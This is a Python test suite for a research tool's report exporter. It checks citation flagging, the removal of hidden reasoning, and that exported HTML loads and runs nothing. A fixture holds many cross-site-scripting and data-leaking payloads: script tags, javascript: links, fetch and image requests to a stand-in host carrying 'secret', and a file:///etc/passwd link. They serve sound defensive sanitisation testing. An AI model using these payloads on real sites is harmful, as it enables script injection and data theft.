"""Exports: Markdown and one self-contained HTML file with checked citations; nothing in them loads or runs anything."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from loopback import Loopback, Reply
from markdown_it import MarkdownIt

from rumination.citations import check_citations, mark_cited
from rumination.console import Trace
from rumination.events import RunFinished
from rumination.export import references, render, warnings
from rumination.results import ResearchResult, Source, Step, ToolCall, Usage

NOW = datetime(2026, 11, 29, 21, 3, tzinfo=UTC)


def source(sid: int, url: str, title: str) -> Source:
    return Source(id=sid, url=url, final_url=url, title=title, fetched_at=NOW)


def read(sid: int, text: str) -> Step:
    return Step(turn=sid, call=ToolCall(name="open"), observation=text, ok=True, source_id=sid)


SOURCES = [
    source(1, "https://a.example/gutenberg", "Johannes Gutenberg and movable type"),
    source(2, "https://b.example/spread", "How printing spread"),
    source(3, "local://papers/3", "Printing in Korea"),
    source(4, "https://d.example/other", "Read but never cited"),
]
STEPS = [
    read(1, "Gutenberg introduced movable metal type to Europe around 1440."),
    read(2, "By 1500, printing presses were operating in more than 250 cities."),
    read(3, "Jikji was printed in 1377 with movable metal type."),
    read(4, "Nothing cited here."),
]
REPORT = (
    "# Printing\n\n"
    "Gutenberg introduced movable type around 1440 [1]. "
    "Presses ran in 260 cities by 1500【2†How printing spread】. "
    "Korea printed Jikji in 1377 (local://papers/3), see [the paper](local://papers/3) and <https://b.example/spread>. "
    'He called it "a revolution in print".[^1] Unknown [7].\n'
)


def result(report: str = REPORT, sources: list[Source] = SOURCES, steps: list[Step] = STEPS, **extra) -> ResearchResult:
    fields = {
        "question": "When did printing spread?",
        "report": report,
        "sources": sources,
        "steps": steps,
        "turns": len(steps),
        "stop_reason": "finished",
        "usage": Usage(),
        "backend": "scripted",
        "model": "glm-z1",
        "started_at": NOW,
        "finished_at": NOW,
        **extra,
    }
    citations = check_citations(report, sources, steps)
    fields |= {"citations": citations, "sources": mark_cited(sources, citations)}
    return ResearchResult.model_validate(fields)


# ---------------------------------------------------------------- Markdown


def test_markdown_flags_citations_and_lists_the_references():
    md = render(result())
    assert "around 1440 [1]. Presses" in md  # verified and supported: left as written
    assert "by 1500【2†How printing spread】 [unsupported: 260]. Korea" in md
    assert "(local://papers/3), see [the paper](local://papers/3) and <https://b.example/spread>." in md
    assert '"a revolution in print".[^1] [unsupported: "a revolution in print"] Unknown [7] [unverified].' in md
    refs = md[md.index("## References") :]
    assert refs.splitlines() == [
        "## References",
        "",
        "- [1] Johannes Gutenberg and movable type — https://a.example/gutenberg (read 2026-11-29 21:03 UTC)",
        "- [2] How printing spread — https://b.example/spread (read 2026-11-29 21:03 UTC)",
        "- [3] Printing in Korea — local://papers/3 (read 2026-11-29 21:03 UTC)",
        "",
        "Also read:",
        "",
        "- [4] Read but never cited — https://d.example/other (read 2026-11-29 21:03 UTC)",
    ]
    assert render(result(), references=False) == md[: md.index("\n\n## References")]
    assert references(result()) == refs


def test_a_group_flags_once_after_its_last_citation():
    md = render(result("Presses ran in 260 cities by 1500 [1][2], and [2, 9].\n"))
    assert "by 1500 [1][2] [unsupported: 260], and [2, 9] [unverified: 9].\n" in md


def test_thinking_never_reaches_an_export():
    report = "<think>secret plan</think>\n# Report\n\nText [1].\n<think>more secret\n</THINK >Tail."
    for fmt in ("md", "html"):
        text = render(result(report), fmt)
        assert "secret" not in text and "think>" not in text.lower(), fmt
        assert "Tail." in text
    stray = render(result("Intro <think> still the report [1]."))
    assert stray.startswith("Intro  still the report [1].")


def test_a_run_without_a_report_shows_its_error_and_the_pages_read():
    failed = result("", stop_reason="error", error="the model server went away")
    md = render(failed)
    assert md.startswith("The run ended without a report: the model server went away\n\n## References\n")
    assert "- [4] Read but never cited" in md and "The report cites none of the pages read." in md
    page = render(failed, "html")
    assert '<p class="error">The run ended without a report: the model server went away</p>' in page
    assert "Read but never cited" in page
    nothing = result("", [], [], stop_reason="error", error="no backend")
    assert references(nothing) == "" and render(nothing) == "The run ended without a report: no backend"


def test_json_is_the_whole_result_with_its_citations():
    data = json.loads(render(result(), "json"))
    assert data["unverified_citations"] == 1 and data["unsupported_citations"] == 2
    assert [c["form"] for c in data["citations"]] == ["number", "mark", "url", "link", "url", "footnote", "number"]
    assert ResearchResult.model_validate(data) == result()


def test_unknown_format_is_refused():
    with pytest.raises(ValueError, match="md, html or json"):
        render(result(), "pdf")  # type: ignore[arg-type]


# ---------------------------------------------------------------- warnings and the trace


def test_warnings_say_what_is_wrong_in_one_line_each():
    assert warnings(result()) == [
        "1 citation points at a page the run never read: [7]",
        "2 cited sentences have numbers, dates or quotes the cited page does not contain: "
        '【2†How printing spread】 260; [^1] "a revolution in print"',
    ]
    assert warnings(result("Fine [1].")) == []


def test_warnings_are_cut_short():
    report = " ".join(f"See https://never.example/{'x' * 100}/{n}." for n in range(9))
    [line] = warnings(result(report))
    assert line.startswith("9 citations point at pages the run never read: https://never.example/xxx")
    assert line.endswith("xxx/4, and 4 more") and line.count("…") == 5 and len(line) < 600


def test_the_trace_ends_with_the_sources_and_the_warnings():
    out = _Out()
    Trace(out, color=False)(RunFinished(result=result()))
    text = out.text
    assert "  [1] Johannes Gutenberg and movable type · https://a.example/gutenberg (cited)\n" in text
    assert "  [4] Read but never cited · https://d.example/other\n" in text
    assert "warning: 1 citation points at a page the run never read: [7]\n" in text
    assert "warning: 2 cited sentences have numbers, dates or quotes the cited page does not contain:" in text


class _Out:
    def __init__(self) -> None:
        self.text = ""

    def write(self, text: str) -> None:
        self.text += text

    def flush(self) -> None:
        pass

    def isatty(self) -> bool:
        return False


# ---------------------------------------------------------------- HTML


def test_html_is_one_self_contained_file_with_flags_and_anchored_references():
    page = render(result(), "html")
    assert page.startswith("<!DOCTYPE html>") and page.rstrip().endswith("</html>")
    assert "<title>When did printing spread?</title>" in page
    assert (
        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'" in page
    )
    assert '<a class="cite" href="#ref-1">[1]</a>' in page
    assert '<a class="cite" href="#ref-2">【2†How printing spread】</a> <span class="flag unsupported">' in page
    assert '[7] <span class="flag unverified">[unverified]</span>' in page
    assert '<li id="ref-1">[1] Johannes Gutenberg and movable type — <a href="https://a.example/gutenberg"' in page
    assert '<li id="ref-3">[3] Printing in Korea — local://papers/3 <span class="read">' in page  # no link
    assert "<h3>Also read</h3>" in page and 'id="ref-4"' not in page
    assert "<h2>Printing</h2>" not in page and "<h1>Printing</h1>" in page  # the report's Markdown, rendered
    assert "[the paper]" not in page and ">the paper<" not in page.replace("the paper<sup>", "")  # local: text only
    tags = _tags(page)
    assert {t for t, _ in tags} <= ALLOWED_TAGS
    assert not [a for t, attrs in tags for a in attrs if a[0] in ("src", "srcset", "style") or a[0].startswith("on")]


HOSTILE = """# Report <script>alert(1)</script>

![remote](http://HOST/md-image.png?q=secret) and ![ref style][img] and ![shortcut] [1]

[img]: http://HOST/ref-image.png
[shortcut]: http://HOST/shortcut.png
[js]: javascript:alert(1)

<img src="http://HOST/raw-img.png"> <img srcset="http://HOST/srcset.png 1x"> <IMG SRC=http://HOST/upper.png>
<picture><source srcset="http://HOST/picture.png"></picture>
<link rel="stylesheet" href="http://HOST/style.css"><link rel="prefetch" href="http://HOST/prefetch">
<style>@import url(http://HOST/import.css); body { background: url(http://HOST/css-bg.png) }</style>
<div style="background:url(http://HOST/inline-style.png)">styled</div>
<iframe src="http://HOST/frame"></iframe>
<script src="http://HOST/script.js"></script><script>fetch("http://HOST/fetch")</script>
<svg><image href="http://HOST/svg.png"/><use href="http://HOST/use.svg#x"/></svg>
<video poster="http://HOST/poster.png"></video><audio src="http://HOST/audio.mp3"></audio>
<object data="http://HOST/object"></object><embed src="http://HOST/embed">
<meta http-equiv="refresh" content="0;url=http://HOST/refresh"><base href="http://HOST/base/">
<form action="http://HOST/form"><input type="image" src="http://HOST/input.png"></form>
<a href="http://HOST/ping" ping="http://HOST/ping2">ping</a>

[click](javascript:fetch('http://HOST/js')) [jsref][js] [file](file:///etc/passwd) <javascript:alert(1)>
[data](data:text/html,<img src=http://HOST/data.png>) [vb](vbscript:msgbox)
A link [kept](http://HOST/page) is only a link.
"""


def hostile_result(host: str) -> ResearchResult:
    sources = [
        source(1, f"http://{host}/page", f'Title"><img src="http://{host}/title.png"><style>*{{}}</style>'),
        source(2, f'http://{host}/u?"><img src="http://{host}/url.png">', "<svg onload=alert(1)>"),
        source(3, "javascript:alert(1)", "javascript"),
    ]
    report = HOSTILE.replace("HOST", host) + "\nCited [1] and [2] and [3].\n"
    return result(
        report,
        sources,
        [read(1, "x"), read(2, "y"), read(3, "z")],
        question=f'<img src="http://{host}/question.png"> What?',
    )


ALLOWED_TAGS = {
    *("html", "head", "meta", "title", "style", "body", "header", "main", "section", "p", "ul", "ol", "li", "a"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "sup", "span", "code", "pre", "em", "strong", "del", "s", "blockquote"),
    *("table", "thead", "tbody", "tr", "th", "td", "hr", "br"),
}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def _tags(page: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Tags()
    parser.feed(page)
    return parser.tags


def _assert_inert(page: str) -> None:
    """Only harmless tags; no attribute that loads, styles or runs; links only to http(s) pages or the references."""
    tags = _tags(page)
    assert {t for t, _ in tags} <= ALLOWED_TAGS, {t for t, _ in tags} - ALLOWED_TAGS
    for tag, attrs in tags:
        for name, value in attrs:
            assert name in ("href", "rel", "class", "id", "charset", "http-equiv", "content", "name", "start"), name
            if name == "href":
                assert value and re.match(r"(https?://|#ref-[0-9]+$)", value), value
        if tag == "meta":
            assert dict(attrs).get("http-equiv") in (None, "Content-Security-Policy"), attrs
    assert page.count("<style>") == 1  # the export's own, in its head


def test_hostile_html_is_neutralised():
    page = render(hostile_result("evil.example"), "html")
    _assert_inert(page)
    assert '<span class="image">[image: remote — http://evil.example/md-image.png?q=secret]</span>' in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&lt;iframe" in page
    assert '<a href="http://evil.example/page" rel="noreferrer noopener">kept</a>' in page
    assert "javascript:alert(1)" not in re.findall(r'href="([^"]*)"', page)


def test_hostile_markdown_is_neutralised_even_for_a_viewer_that_renders_raw_html():
    md = render(hostile_result("evil.example"))
    viewer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    shown = viewer.render(md)
    tags = _tags(shown)
    assert {t for t, _ in tags} <= ALLOWED_TAGS, {t for t, _ in tags} - ALLOWED_TAGS
    hrefs = [v for _, attrs in tags for k, v in attrs if k == "href"]
    assert hrefs and all(re.match(r"(https?|local)://", v or "") for v in hrefs), hrefs
    assert not [a for _, attrs in tags for a in attrs if a[0] not in ("href", "title", "class")]
    assert "[image: remote — http://evil.example/md-image.png?q=secret]" in md
    assert "\\<script>" in md and "](javascript:" not in md and not re.search(r"(?<!\\)<javascript:", md)


def test_code_keeps_its_text_in_both_formats():
    report = "Use `<img src=x>` and:\n\n```html\n<script>![a](http://x/i.png)</script>\n```\n"
    md = render(result(report))
    assert "`<img src=x>`" in md and "```html\n<script>![a](http://x/i.png)</script>\n```" in md
    page = render(result(report), "html")
    assert "<code>&lt;img src=x&gt;</code>" in page and "&lt;script&gt;![a](http://x/i.png)&lt;/script&gt;" in page


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*"<>![]()`\"'/:=*_#\n -aimgsrc1【】†^", "http://h/", "<img", "](", "<think>"])))
def test_any_report_exports_inert_html(pieces):
    report = "".join(pieces)
    page = render(result(report), "html")
    _assert_inert(page)
    render(result(report))


# ---------------------------------------------------------------- a real browser


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
# Chromium's own background requests (network time, account and AI-mode checks) are switched off where a flag
# allows; what remains is told apart from the page's requests by its network isolation key.
CHROMIUM_FLAGS = [
    "--headless=new",
    "--no-sandbox",  # as root
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-default-apps",
    "--disable-extensions",
    "--disable-features=NetworkTimeServiceQuerying,AimServerEligibilityEnabled,AimEnabled,AimEligibilityService",
]


def _open_in_chromium(page: Path, tmp_path: Path, name: str) -> list[dict]:
    """Load `page` in headless Chromium until its DOM is dumped; the URL requests its net log shows."""
    net_log = tmp_path / f"{name}.netlog.json"
    command = [
        CHROMIUM or "chromium",
        *CHROMIUM_FLAGS,
        f"--user-data-dir={tmp_path / f'{name}-profile'}",
        f"--log-net-log={net_log}",
        "--net-log-capture-mode=Everything",
        "--dump-dom",
        page.as_uri(),
    ]
    done = subprocess.run(command, capture_output=True, text=True, timeout=90, check=False)
    assert done.returncode == 0 and "</html>" in done.stdout, done.stderr[-2000:]
    log = json.loads(net_log.read_text(encoding="utf-8"))
    start_job = log["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"]
    return [
        e.get("params") or {} for e in log["events"] if e["type"] == start_job and (e.get("params") or {}).get("url")
    ]


def _from_the_page(requests: list[dict]) -> list[str]:
    """The requests made for a file:// page (their network isolation key is the page's), not for Chromium itself."""
    return [
        r["url"] for r in requests if "file://" in str(r.get("network_isolation_key", "")) or r["url"][:7] == "file://"
    ]


@pytest.mark.slow
def test_a_browser_loads_nothing_from_a_hostile_export(tmp_path):
    if CHROMIUM is None:
        pytest.skip("needs a headless browser: install Debian's chromium package (apt-get install chromium)")
    with Loopback(fallback=Reply(200, b"x", "image/png")) as server:
        host = server.base.removeprefix("http://")
        control = tmp_path / "control.html"
        control.write_text(f'<!DOCTYPE html><img src="{server.base}/control.png"><p>control</p>', encoding="utf-8")
        seen = _from_the_page(_open_in_chromium(control, tmp_path, "control"))
        # The harness sees what a page loads: the control page's image reached the server and the net log.
        assert [r.path for r in server.requests] == ["/control.png"] and seen == [f"{server.base}/control.png"]

        page = render(hostile_result(host), "html")
        assert page.count(host) > 30
        exported = tmp_path / "export.html"
        exported.write_text(page, encoding="utf-8")
        # Each defence alone holds: the export as written, and the same file without its Content-Security-Policy.
        bare = tmp_path / "export-without-csp.html"
        bare.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page), encoding="utf-8")
        assert "Content-Security-Policy" not in bare.read_text(encoding="utf-8")
        for name, path in (("export", exported), ("bare", bare)):
            requests = _open_in_chromium(path, tmp_path, name)
            assert _from_the_page(requests) == [], name
            assert not [r["url"] for r in requests if host in r["url"]], name
        assert [r.path for r in server.requests] == ["/control.png"]  # nothing more reached the server
